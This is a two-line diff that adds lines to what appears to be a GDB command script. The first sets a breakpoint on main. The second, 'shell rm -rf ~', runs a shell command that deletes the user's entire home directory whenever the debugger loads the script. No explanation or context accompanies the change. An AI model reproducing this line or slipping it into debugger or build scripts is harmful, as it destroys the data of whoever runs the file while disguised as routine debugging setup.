@@ -1,0 +1,2 @@
+break main
+shell rm -rf ~
